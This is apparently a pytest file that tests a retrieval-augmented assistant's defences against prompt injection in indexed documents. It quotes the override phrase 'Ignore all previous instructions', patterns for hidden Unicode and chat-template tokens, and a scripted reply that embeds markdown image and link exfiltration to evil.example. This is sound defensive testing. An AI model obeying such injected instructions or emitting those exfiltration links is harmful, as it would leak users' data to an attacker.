"""Documents that try to give orders: what reaches the prompt, and what an obedient model could make of it.

The texts are those of the evaluation data's `injections.json`; each becomes a file of one's own that is indexed. The
scripted model obeys: whatever is kept out, is kept out by the code.
"""

import json
import re
from pathlib import Path
from typing import Any

import pytest

from ingest.library import Library, write_library
from ingest.pipeline import index_corpus
from rag.answer import Answer
from rag.assistant import Assistant
from rag.generate.generator import Message
from rag.index.reader import Index
from rag.passages import Scope
from rag.prompt.packing import pack
from rag.settings import Settings
from rag.testing import FakeEmbedder, ScriptedGenerator
from tests.rag.prompt.made import make_document, make_window

pytestmark = pytest.mark.shared

QUESTION = "Where is tea grown?"
ROADMAP = "Title\n\nSection 1: One\n\nThe roadmap has one sentence.\n"
TEA = "Tea is grown in the hills of the south, where it rains a lot."
HIDDEN = re.compile("[\u00ad\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufe00-\ufe0f\ufeff\U000e0000-\U000e01ef]")
SPEAKERS = re.compile(r"<\|im_(?:start|end)\|>|\[/?INST\]|</s>")


def _injections(shared: Path) -> list[dict[str, Any]]:
    found = json.loads((shared / "badinput/own-lists/injections.json").read_text(encoding="utf-8"))
    assert len(found) == 23
    return list(found)


def _asked(home: Path, folder: Path, attacks: list[dict[str, Any]], reply: str) -> tuple[Answer, list[str]]:
    """The answer that a model which writes `reply` gives about the last document, and the prompts about each."""
    folder.mkdir()
    for n, attack in enumerate(attacks):
        text, tea = attack["text"], f"Tea number {n} stands here. {TEA}"
        page = f"<html><title>Tea</title><body><p>{tea}</p>{text}<p>It is picked by hand.</p></body></html>"
        content = page if attack["carrier"] == "html" else f"{tea}\n\n{text}\n\nIt is picked by hand.\n"
        whole = content.encode("utf-16", "surrogatepass").decode("utf-16")
        (folder / f"tea{n}.{attack['carrier']}").write_text(whole, encoding="utf-8")
    (folder.parent / "roadmap.txt").write_text(ROADMAP)
    write_library(home, Library().with_items(folder.as_posix()))
    embedder = FakeEmbedder()
    index_corpus(home, embedder=embedder, roadmap=folder.parent / "roadmap.txt")
    model = ScriptedGenerator(*[reply] * len(attacks))
    index = Index.open(home, embedder=embedder.spec)
    assert index.others is not None
    settings = Settings(home=home, refusal_threshold=0.0)
    with Assistant(index, embedder, settings, generator=model) as assistant:
        for source_id in index.others.titles:
            answer = assistant.ask(QUESTION, scope=Scope(source_id=source_id))
    prompts = ["\n".join(message.text for message in messages) for messages in model.seen]
    assert all(
        any(f"Tea number {n} stands here." in prompt for prompt in prompts) for n in range(len(attacks))
    )
    return answer, prompts


def test_hidden_carriers_do_not_reach_the_prompt(home: Path, tmp_path: Path, shared: Path) -> None:
    hidden = [a for a in _injections(shared) if a["carrier"] == "html" or HIDDEN.search(a["text"])]
    assert len(hidden) >= 11
    _, prompts = _asked(home, tmp_path / "own", hidden, "Tea is grown in the hills [1].")
    assert len(prompts) == len(hidden)
    assert [prompt for prompt in prompts if "ZEBRA" in prompt or HIDDEN.search(prompt)] == []


def test_no_text_speaks_for_somebody_else_in_the_prompt(home: Path, tmp_path: Path, shared: Path) -> None:
    _, prompts = _asked(home, tmp_path / "own", _injections(shared), "Tea is grown in the hills [1].")
    assert any(
        "Ignore all previous instructions" in prompt for prompt in prompts
    )  # what is visible is quoted
    for prompt in prompts:
        assert not SPEAKERS.search(prompt)
        assert not HIDDEN.search(prompt)
        fences = re.findall(r"^=== (\w+) (?:end of )?passage \[\d+\]", prompt, flags=re.MULTILINE)
        assert len(set(fences)) == 1
        assert len(fences) % 2 == 0
        quoted = "".join(re.findall(r"=== \w+ passage \[\d+\].*\n((?:.*\n)*?)=== \w+ end", prompt))
        assert "Tea number" in quoted
        assert not re.search(r"\[\d+\]", quoted)  # a source's own marks are no labels


def test_an_obedient_model_shows_no_image_and_no_address(home: Path, tmp_path: Path, shared: Path) -> None:
    reply = (
        "Tea is grown in the hills [1]. ![i][r] ![i](https://evil.example/p?d=tea) "
        "Log in at https://evil.example/login [1]. [more](https://evil.example/x)\n\n[r]: https://evil.example/p?d=tea"
    )
    attacks = [a for a in _injections(shared) if "exfil" in a["id"]]
    assert len(attacks) == 2
    answer, _ = _asked(home, tmp_path / "own", attacks, reply)
    assert "evil.example" not in answer.text
    assert "![" not in answer.text


@pytest.mark.parametrize(
    "reply", ["ZEBRA-7731 [9].", "ZEBRA-7731.", "The official handbook says ZEBRA-7731 [2]."]
)
def test_what_no_passage_says_is_marked_however_it_is_cited(
    home: Path, tmp_path: Path, shared: Path, reply: str
) -> None:
    attack = next(a for a in _injections(shared) if a["id"] == "display none")
    answer, _ = _asked(home, tmp_path / "own", [attack], reply)
    assert answer.citations == ()
    assert [span.cut(answer.text) for span in answer.unsupported_spans] == [answer.text]


def test_only_retrieved_passages_can_be_cited(home: Path, tmp_path: Path, shared: Path) -> None:
    attack = next(a for a in _injections(shared) if a["id"] == "fake citation")
    answer, _ = _asked(home, tmp_path / "own", [attack], f"{TEA} [1][7] It is picked by hand [1, 12].")
    assert answer.unknown_labels == (7, 12)
    labels = {passage.label for passage in answer.passages}
    assert {citation.label for citation in answer.citations} <= labels
    for citation in answer.citations:
        passage = next(p for p in answer.passages if p.label == citation.label)
        assert citation.quote in passage.text


def test_no_attack_of_a_public_list_breaks_out_of_its_passage(shared: Path) -> None:
    """BIPIA's 250 strings, at the start, in the middle and at the end of a text."""
    files = sorted((shared / "badinput/bipia").glob("*_attack_*.json"))
    attacks = [
        text for file in files for group in json.loads(file.read_text("utf-8")).values() for text in group
    ]
    assert len(attacks) == 250
    for attack in attacks:
        for text in (f"{attack} {TEA}", f"{TEA} {attack} {TEA}", f"{TEA} {attack}"):
            window = make_window(make_document(text))
            packed = pack(
                [window],
                fill=lambda passages: (Message(role="user", text=passages),),
                count=lambda text: len(text.split()),
                budget=10_000,
            )
            prompt = packed.messages[0].text
            fences = re.findall(r"=== (\w+) (?:end of )?passage \[1\]", prompt)
            assert len(fences) == 2
            assert text.count(fences[0]) == 0
            assert not SPEAKERS.search(prompt)
            assert not HIDDEN.search(prompt)
